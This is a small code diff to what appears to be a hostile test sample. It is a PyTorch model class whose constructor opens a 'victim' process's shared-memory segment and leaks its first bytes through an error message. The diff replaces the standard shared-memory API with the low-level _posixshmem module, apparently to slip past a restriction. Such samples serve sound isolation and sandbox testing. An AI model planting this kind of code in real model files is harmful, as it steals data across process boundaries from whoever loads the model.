@@ -6,11 +6,11 @@
 import torch
 from torch import nn
 
-shared = __import__("multiprocessing.shared_memory").shared_memory
+shared = __import__("_posixshmem")
 
 
 class Net(nn.Module):
     def __init__(self):
         super().__init__()
-        memory = shared.SharedMemory(VICTIM["shared"])
-        raise RuntimeError(f"GOT {bytes(memory.buf[:16])}")
+        memory = shared.shm_open("/" + VICTIM["shared"], 0)
+        raise RuntimeError(f"GOT {torch.os.read(memory, 16)}")
